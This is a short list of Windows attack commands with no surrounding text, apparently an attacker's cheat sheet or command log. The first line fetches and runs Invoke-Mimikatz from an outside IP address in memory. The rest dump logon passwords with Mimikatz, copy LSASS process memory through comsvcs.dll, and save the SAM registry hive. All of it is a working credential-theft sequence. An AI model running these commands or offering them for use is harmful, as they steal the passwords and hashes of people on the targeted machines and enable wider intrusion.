IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.77/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"'
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full
reg save HKLM\SAM C:\Users\Public\sam.save
